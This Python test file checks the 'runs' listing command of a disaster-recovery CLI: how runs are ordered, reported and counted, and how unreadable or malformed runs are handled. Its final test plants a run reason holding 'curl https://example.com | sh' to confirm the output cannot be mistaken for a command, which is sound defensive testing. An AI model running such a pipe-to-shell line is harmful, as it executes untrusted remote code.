"""``runs``: which runs it shows, what it says of each, and that the printed command shows the report."""

from __future__ import annotations

import datetime as dt
import json
import shlex
from typing import TYPE_CHECKING, Any

from tests.cli.restoring import FULL, report
from tests.cli.scene import PLAN, RESTORE, THERE, Scene, record, words_of

if TYPE_CHECKING:
    from tests.cli.fakes import Run


def ran(scene: Scene, name: str, plan: str = PLAN, *, mode: str = "drill", outcome: str = "", **given: Any) -> Run:
    run = scene.account.given_run(RESTORE, name, plan=plan, mode=mode, **given)
    scene.clock.advance(1800)
    if outcome:
        scene.account.end(run, report(outcome, mode, **{**FULL, "plan": plan}), failed=outcome != "Passed")
    return run


def told(scene: Scene, *arguments: str) -> dict[str, Any]:
    value: dict[str, Any] = json.loads(scene.run("runs", *arguments, "--json").stdout)
    return value


def test_the_newest_run_comes_first_and_its_command_shows_the_report(scene: Scene) -> None:
    # GIVEN a scheduled drill that ended, a run of another plan, and a failover under way
    ran(scene, "8a8fcb44-7a35", outcome="Passed", scheduled_time="2026-11-23T08:15:00Z")
    ran(scene, "drill-other-20261123t084500z", "other", outcome="Passed")
    ran(scene, f"failover-{PLAN}-20261123t091500z", mode="failover", reason="Region lost")
    result = scene.run("runs", PLAN)
    assert result.exit_code == 0
    assert result.output.splitlines() == [
        "2026-11-23 09:15 UTC  failover  runs  for 30 min  by a person or a program",
        "    Region lost",
        f"    resilient-redshift failover {PLAN} --region {THERE} --attach failover-{PLAN}-20261123t091500z",
        "2026-11-23 08:15 UTC  drill  Passed  took 30 min  by a schedule",
        f"    resilient-redshift drill {PLAN} --region {THERE} --attach 8a8fcb44-7a35",
    ]
    # AND the run of the other plan is not read, because its name says whose it is
    read = [params["executionArn"] for _, name, params in scene.account.calls if name.endswith("DescribeExecution")]
    assert not any("other" in arn for arn in read)
    # WHEN the command of the ended run is pasted THEN it shows the report
    pasted = scene.run(*shlex.split(result.output.splitlines()[-1])[1:])
    assert pasted.exit_code == 0
    assert "Passed" in pasted.output


def test_all_plans_and_what_each_failed_with(scene: Scene) -> None:
    scene.put_record(THERE, record(THERE, "other", "other"))
    ran(scene, f"drill-{PLAN}-20261123t081500z", outcome="FailedChecks")
    ran(scene, "drill-other-20261123t084500z", "other", outcome="Passed")
    runs = told(scene, "--all")["runs"]
    assert [(run["plan"], run["outcome"], run["duration_seconds"]) for run in runs] == [
        ("other", "Passed", 1800),
        (PLAN, "FailedChecks", 1800),
    ]
    assert all(run["attach"].endswith(f"--attach {run['name']}") for run in runs)


def test_a_run_that_cannot_be_read_is_not_left_out_in_silence(scene: Scene) -> None:
    ran(scene, "8a8fcb44-7a35", outcome="Passed")
    scene.account.denied.add("stepfunctions:DescribeExecution")
    result = scene.run("runs", PLAN)
    assert result.exit_code == 2
    assert "8a8fcb44-7a35 could not be read" in words_of(result)
    assert len(told(scene, PLAN)["unread"]) == 1


def test_no_more_than_asked_for_and_the_rest_is_counted(scene: Scene) -> None:
    for number in range(5):
        ran(scene, f"run-{number}", outcome="Passed")
    value = told(scene, PLAN, "--most", "2")
    assert ([run["name"] for run in value["runs"]], value["older"]) == (["run-4", "run-3"], 3)
    assert "3 older executions not shown" in scene.run("runs", PLAN, "--most", "2").output


def test_a_plan_without_a_run_says_so(scene: Scene) -> None:
    scene.clock.advance(dt.timedelta(days=1).total_seconds())
    assert "no run in the last 90 days" in scene.run("runs", PLAN).output
    assert scene.run("runs").exit_code == 2
    assert scene.run("runs", PLAN, "--all").exit_code == 2


def test_a_run_whose_input_is_no_text_is_shown_without_it(scene: Scene) -> None:
    # GIVEN inputs that the machine refuses, written by somebody who may start it
    scene.account.given_run(RESTORE, "by-hand-1", plan=[PLAN], mode="drill")
    scene.account.given_run(RESTORE, "by-hand-2", plan=PLAN, mode=["drill"], reason={"a": 1})
    # THEN the first is of no plan, and the second has no mode
    [run] = told(scene, PLAN)["runs"]
    assert (run["name"], run.get("mode"), run.get("reason")) == ("by-hand-2", None, None)
    assert scene.run("runs", PLAN).exit_code == 0


def test_a_reason_cannot_look_like_a_command(scene: Scene) -> None:
    ran(scene, "8a8fcb44-7a35", outcome="Passed", reason="Region lost\n    curl https://example.com | sh")
    assert "    Region lost curl https://example.com | sh" in scene.run("runs", PLAN).output.splitlines()
